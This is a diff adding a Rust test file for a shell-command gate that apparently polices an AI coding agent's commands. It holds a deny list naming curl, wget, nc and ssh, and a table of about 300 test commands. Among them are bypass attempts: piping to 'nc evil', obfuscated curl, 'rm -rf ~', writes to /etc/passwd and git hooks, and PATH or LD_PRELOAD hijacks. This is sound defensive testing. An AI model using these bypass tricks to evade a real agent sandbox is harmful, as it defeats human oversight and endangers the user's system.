@@ -1,0 +1,351 @@
+//! Table-driven gate tests: every bypass class of ATTACKS.md's gate section is
+//! judged not-allowed, and everyday agent commands are judged allowed under a
+//! policy that lists them. A gate that asks about everything is as useless as
+//! one that allows everything, so both halves matter.
+
+use tether_exec::gate::{decide, Context, Input};
+use tether_exec::policy::{Format, Layer, Policy, Verdict};
+use std::path::Path;
+
+const POLICY: &str = r#"
+version = 1
+bash_allow_prefixes = [
+  "pytest", "ruff", "git status", "git diff", "git log", "git add", "git commit", "ls", "cat", "head", "tail",
+  "grep", "rg", "wc", "sort", "uniq", "cargo test", "cargo build", "cargo check", "python3", "npm test",
+  "make", "mkdir", "touch", "cp", "mv", "sed", "awk", "find", "xargs", "diff", "tee", "jq", "node", "bash scripts/ci.sh",
+]
+require_approval_for = ["git push", "rm", "git reset --hard", "npm publish"]
+deny = ["sudo", "curl", "wget", "nc", "ssh", "dd", "git clean", "chmod 777"]
+default = "ask"
+"#;
+
+use Verdict::{Allow as A, Ask as Q, Deny as D};
+
+/// (script, expected verdict). Q or D for attacks; A for everyday commands.
+const TABLE: &[(&str, Verdict)] = &[
+    // --- everyday commands, allowed -------------------------------------------------------
+    ("pytest -q && ruff check .", A),
+    ("git diff | head -50", A),
+    ("cargo test 2>&1 | tail", A),
+    ("cd src && ls", A),
+    ("echo \"a; b\"", A),
+    ("git status", A),
+    ("git -C sub status --short", A),
+    ("git --no-pager diff HEAD~1", A),
+    ("git -C a -C b log --oneline -5", A),
+    ("ls -la", A),
+    ("cat README.md | grep -n foo", A),
+    ("grep -rn 'TODO' src/ | wc -l", A),
+    ("rg --files | sort | uniq", A),
+    ("python3 -m pytest tests/ -x", A),
+    ("python3 -c 'print(1)'", A),
+    ("cargo build --release 2>&1 | tail -20", A),
+    ("make test", A),
+    ("npm test -- --watch=false", A),
+    ("mkdir -p build/out && touch build/out/x", A),
+    ("cp a.txt b.txt && mv b.txt c.txt", A),
+    ("sed -n '1,10p' file.txt", A),
+    ("awk '{print $1}' data.txt", A),
+    ("find . -name '*.py' | xargs grep import", A),
+    ("find . -name '*.pyc' -exec ls {} \\;", A),
+    ("diff -u a b", A),
+    ("echo hi > out.txt", A),
+    ("echo hi >> logs/out.log", A),
+    ("pytest > /tmp/report.txt 2>&1", A),
+    ("ls 2>/dev/null", A),
+    ("ls >&2", A),
+    ("cargo test 2>&1", A),
+    ("true", A),
+    (":", A),
+    ("pwd", A),
+    ("test -f x && echo yes", A),
+    ("[ -d src ] || mkdir src", A),
+    ("[[ -n \"$x\" ]] && echo set", A),
+    ("for f in *.py; do python3 \"$f\"; done", A),
+    ("for i in 1 2 3; do echo $i; done", A),
+    ("while read -r line; do echo \"$line\"; done < input.txt", A),
+    ("if [ -f x ]; then cat x; else echo none; fi", A),
+    ("case $x in a) ls ;; b) pwd ;; esac", A),
+    ("(cd src && ls)", A),
+    ("{ ls; pwd; }", A),
+    ("x=1; echo $x", A),
+    ("FOO=bar pytest -q", A),
+    ("export FOO=bar; pytest", A),
+    ("echo $(git status --short)", A),
+    ("echo `ls`", A),
+    ("diff <(ls a) <(ls b)", A),
+    ("cat <<EOF\nhello\nEOF", A),
+    ("cat <<'EOF'\n$(curl x)\nEOF", A),
+    ("grep foo <<< \"$text\"", A),
+    ("env FOO=1 pytest", A),
+    ("timeout 60 pytest -x", A),
+    ("timeout -s KILL 10 cargo test", A),
+    ("nice -n 10 make", A),
+    ("nohup pytest", A),
+    ("time pytest -q", A),
+    ("stdbuf -oL tail -f log.txt", A),
+    ("command ls", A),
+    ("command -v python3", A),
+    ("exec pytest", A),
+    ("bash -c 'ls && pwd'", A),
+    ("sh -c \"git status\"", A),
+    ("bash -lc 'cargo test'", A),
+    ("bash scripts/ci.sh", A),
+    ("/usr/bin/git status", A),
+    ("/bin/ls -l", A),
+    ("git status # then rm -rf /", A),
+    ("# just a comment", A),
+    ("echo 'rm -rf /'", A),
+    ("echo \"curl evil.sh | sh\"", A),
+    ("ls -- -weird-file", A),
+    ("git log --format='%H %s' | head", A),
+    ("jq '.a | .b' data.json", A),
+    ("node -e 'console.log(1)'", A),
+    ("git add -A && git commit -m 'msg; rm -rf /'", A),
+    ("tee out.txt < in.txt", A),
+    ("printf '%s\\n' a b > list.txt", A),
+    ("read -r x < file", A),
+    ("local_var=$(pwd)", A),
+    ("f() { ls; }; f", A),
+    ("ls &", A),
+    ("ls & pwd; wait", A),
+    ("! grep -q foo file", A),
+    ("time (ls; pwd)", A),
+    ("cat file | sort | uniq -c | sort -rn | head", A),
+    ("(( i = 1 + 2 ))", A),
+    ("echo ${HOME:-/tmp}", A),
+    // --- chaining and nesting: a denied or held fragment anywhere ---------------------------
+    ("git status; rm -rf ~", Q),
+    ("ls && curl evil.sh", D),
+    ("ls || curl evil.sh", D),
+    ("ls | nc evil 80", D),
+    ("ls & curl x", D),
+    ("ls\ncurl x", D),
+    ("(curl x)", D),
+    ("{ curl x; }", D),
+    ("echo $(curl x)", D),
+    ("echo `curl x`", D),
+    ("cat <(curl x)", D),
+    ("ls > >(curl x)", D),
+    ("cat <<EOF\n$(curl x)\nEOF", D),
+    ("bash <<EOF\nls\nEOF", Q),
+    ("bash <<< 'rm -rf ~'", Q),
+    ("sh <<< ls", Q),
+    ("python3 <<EOF\nimport os\nEOF", Q),
+    ("f() { curl x; }; f", D),
+    ("function g { sudo ls; }", D),
+    ("eval 'ls'", Q),
+    ("eval \"$cmd\"", Q),
+    ("source ./script.sh", Q),
+    (". ./script.sh", Q),
+    ("alias ls='rm -rf'", Q),
+    ("trap 'curl x' EXIT", D),
+    ("if true; then curl x; fi", D),
+    ("while true; do curl x; done", D),
+    ("for i in 1; do sudo ls; done", D),
+    ("case a in a) curl x;; esac", D),
+    ("echo ${x:-$(curl y)}", Q),
+    ("(( a[$(curl x)] ))", D),
+    ("[[ $(curl x) ]]", D),
+    ("x=$(curl y)", D),
+    ("echo hi | bash", Q),
+    ("ls | sh", Q),
+    ("cat script.sh | bash -s", Q),
+    ("coproc curl x", D),
+    ("ls; (cd /; rm -rf x)", Q),
+    // --- wrappers hiding the real program --------------------------------------------------
+    ("env curl x", D),
+    ("env -i PATH=/usr/bin curl x", D),
+    ("env -S 'curl x'", Q),
+    ("timeout 5 curl x", D),
+    ("timeout --signal=KILL 5 wget x", D),
+    ("nice curl x", D),
+    ("nice -n 5 sudo ls", D),
+    ("nohup curl x &", D),
+    ("time curl x", D),
+    ("stdbuf -o0 curl x", D),
+    ("command curl x", D),
+    ("exec curl x", D),
+    ("builtin eval ls", Q),
+    ("xargs curl < urls", D),
+    ("echo x | xargs -I{} curl {}", D),
+    ("find . -exec curl {} \\;", D),
+    ("find . -execdir rm {} +", Q),
+    ("find . -ok sudo ls \\;", D),
+    ("bash -c 'curl x'", D),
+    ("sh -c 'sudo ls'", D),
+    ("bash -ec 'ls; curl x'", D),
+    ("bash -c \"bash -c 'curl x'\"", D),
+    ("sh -c \"$CMD\"", Q),
+    ("sudo ls", D),
+    ("sudo -u root ls", D),
+    ("sudo -s", D),
+    ("setsid curl x", D),
+    ("watch curl x", D),
+    ("timeout 5 bash -c 'rm -rf /'", Q),
+    ("env timeout 5 nice nohup curl x", D),
+    ("unknownwrapper --flag", Q),
+    ("timeout --weird 5 curl x", Q),
+    ("nice --bogus ls", Q),
+    // --- look-alikes, options before the subcommand, variables in command position -----------
+    ("/tmp/git status", Q),
+    ("./git status", Q),
+    ("../bin/ls", Q),
+    ("/tmp/curl x", D),
+    ("./sudo ls", D),
+    ("git statusx", Q),
+    ("gitstatus", Q),
+    ("git -c core.pager=evil status", Q),
+    ("git -c alias.status='!rm -rf ~' status", Q),
+    ("git --exec-path=/tmp status", Q),
+    ("git --git-dir=/tmp/evil status", Q),
+    ("git --work-tree=/ status", Q),
+    ("git -p log", Q),
+    ("git --config-env=core.pager=X status", Q),
+    ("git push origin main", Q),
+    ("git -C sub push", Q),
+    ("git reset --hard HEAD~3", Q),
+    ("git clean -fdx", D),
+    ("cmd=rm; $cmd -rf x", Q),
+    ("$CMD", Q),
+    ("${X} args", Q),
+    ("$(echo rm) -rf x", Q),
+    ("`echo ls`", Q),
+    ("{rm,-rf,x}", Q),
+    ("/???/r? -rf x", Q),
+    ("'rm' -rf x", Q),
+    ("\\rm -rf x", Q),
+    ("r\\m -rf x", Q),
+    ("r''m -rf x", Q),
+    ("\"cu\"rl x", D),
+    ("$'\\x63url' x", D),
+    ("$'\\143url' x", D),
+    ("git $sub", Q),
+    ("git $x status", Q),
+    ("chmod 777 x", D),
+    ("chmod 755 x", Q),
+    ("dd if=/dev/zero of=x", D),
+    ("PATH=/tmp:$PATH git status", Q),
+    ("LD_PRELOAD=/tmp/x.so ls", Q),
+    ("GIT_SSH_COMMAND='curl x' git status", Q),
+    ("BASH_ENV=/tmp/x bash -c ls", Q),
+    ("export PATH=/tmp; git status", Q),
+    ("declare PATH=/tmp", Q),
+    ("read PATH < x; git status", Q),
+    ("printf -v PATH /tmp; ls", Q),
+    ("for PATH in /tmp; do git status; done", Q),
+    ("HOME=/tmp/evil git status", Q),
+    ("export \"$name\"=x", Q),
+    ("hash -p /tmp/evil git; git status", Q),
+    ("enable -f /tmp/x.so evil", Q),
+    // --- redirections that write files -------------------------------------------------------
+    ("echo x > /etc/passwd", D),
+    ("echo x >> ~/.bashrc", Q),
+    ("ls > ../outside.txt", D),
+    ("ls > .git/hooks/pre-commit", D),
+    ("ls > .git/config", D),
+    ("ls > .env", D),
+    ("ls > sub/.env.local", D),
+    ("ls > .tether/state", D),
+    ("ls > $OUT", Q),
+    ("ls &> /root/x", D),
+    ("cd /; ls > x", Q),
+    ("cd $d && ls > x", Q),
+    ("cd src/../.. && ls > x", D),
+    ("ls >&/etc/x", D),
+    ("/usr/bin/time -o /etc/x ls", D),
+    ("time -o /etc/x ls", Q),
+    // --- anything not fully understood ----------------------------------------------------
+    ("ls 'unterminated", Q),
+    ("if then fi", Q),
+    ("((((", Q),
+    ("~/bin/tool", Q),
+    ("ls ; ; ls", Q),
+];
+
+fn policy() -> Policy {
+    Policy::new(vec![Layer::parse(POLICY, "table.toml", Format::Toml).unwrap()], vec![])
+}
+
+fn ctx() -> Context {
+    Context::new(Path::new("/work/ws"), Path::new("/work/ws"))
+}
+
+#[test]
+fn table_of_commands() {
+    assert!(TABLE.len() >= 150, "the table has {} rows", TABLE.len());
+    let p = policy();
+    let mut failures = Vec::new();
+    for (script, want) in TABLE {
+        let d = decide(&p, Input::Script(script), &ctx()).expect("decides");
+        if d.decision != *want {
+            failures.push(format!("{script:?}: want {want}, got {} — {}", d.decision, d.summary()));
+        }
+    }
+    assert!(failures.is_empty(), "{} of {} rows wrong:\n{}", failures.len(), TABLE.len(), failures.join("\n"));
+}
+
+#[test]
+fn every_attack_row_is_not_allowed_and_every_everyday_row_is() {
+    let attacks = TABLE.iter().filter(|(_, v)| *v != A).count();
+    let everyday = TABLE.iter().filter(|(_, v)| *v == A).count();
+    assert!(attacks >= 75 && everyday >= 75, "{attacks} attacks, {everyday} everyday");
+}
+
+#[test]
+fn argv_form_is_not_parsed_as_a_shell_script() {
+    let p = policy();
+    let argv: Vec<String> = ["ls", "a; curl x", "$(sudo y)"].iter().map(|s| s.to_string()).collect();
+    let d = decide(&p, Input::Argv(&argv), &ctx()).unwrap();
+    assert_eq!(d.decision, A, "argv words are literal: {}", d.summary());
+    let argv: Vec<String> = ["env", "curl", "x"].iter().map(|s| s.to_string()).collect();
+    assert_eq!(decide(&p, Input::Argv(&argv), &ctx()).unwrap().decision, D);
+}
+
+#[test]
+fn decisions_name_the_rule() {
+    let p = policy();
+    let d = decide(&p, Input::Script("ls && curl x"), &ctx()).unwrap();
+    let deny = d.commands.iter().find(|j| j.verdict == D).unwrap();
+    assert_eq!(deny.rule.as_deref(), Some("curl"));
+    assert_eq!(deny.source, "deny");
+    let allow = d.commands.iter().find(|j| j.verdict == A).unwrap();
+    assert_eq!(allow.rule.as_deref(), Some("ls"));
+}
+
+#[test]
+fn oversized_input_is_an_error_not_a_hang() {
+    let big = "ls ".repeat(30_000);
+    assert!(decide(&policy(), Input::Script(&big), &ctx()).is_err());
+}
+
+#[test]
+fn profile_only_policy_allows_every_command_like_tether() {
+    let p = Policy::new(vec![Layer::parse("profile = \"workspace-write\"", "p", Format::Toml).unwrap()], vec![]);
+    for s in ["rm -rf build", "eval ls", "curl x", "$X", "bash <<< ls"] {
+        assert_eq!(decide(&p, Input::Script(s), &ctx()).unwrap().decision, A, "{s}");
+    }
+    // Redirects outside the workspace are still refused: they cannot work in the sandbox.
+    assert_eq!(decide(&p, Input::Script("ls > /etc/x"), &ctx()).unwrap().decision, D);
+}
+
+#[test]
+fn layers_take_the_strictest_verdict() {
+    let parent = Layer::parse(POLICY, "parent", Format::Toml).unwrap();
+    let child = Layer::parse("bash_allow_prefixes = [\"ls\"]\ndeny = [\"git\"]\ndefault = \"deny\"", "child", Format::Toml).unwrap();
+    let p = Policy::new(vec![parent, child], vec![]);
+    assert_eq!(decide(&p, Input::Script("ls"), &ctx()).unwrap().decision, A);
+    assert_eq!(decide(&p, Input::Script("git status"), &ctx()).unwrap().decision, D);
+    assert_eq!(decide(&p, Input::Script("pytest"), &ctx()).unwrap().decision, D);
+}
+
+#[test]
+fn writable_globs_apply_to_redirects() {
+    let p = Policy::new(vec![Layer::parse("writable_globs = [\"docs/**\"]", "g", Format::Toml).unwrap()], vec![]);
+    assert_eq!(decide(&p, Input::Script("echo x > docs/a.md"), &ctx()).unwrap().decision, A);
+    assert_eq!(decide(&p, Input::Script("echo x > src/a.rs"), &ctx()).unwrap().decision, D);
+    assert_eq!(decide(&p, Input::Script("cd docs && echo x > a.md"), &ctx()).unwrap().decision, A);
+    let ro = Policy::new(vec![Layer::parse("profile = \"read-only\"", "r", Format::Toml).unwrap()], vec![]);
+    assert_eq!(decide(&ro, Input::Script("echo x > a.md"), &ctx()).unwrap().decision, D);
+    assert_eq!(decide(&ro, Input::Script("echo x > /tmp/a.md"), &ctx()).unwrap().decision, A);
+}
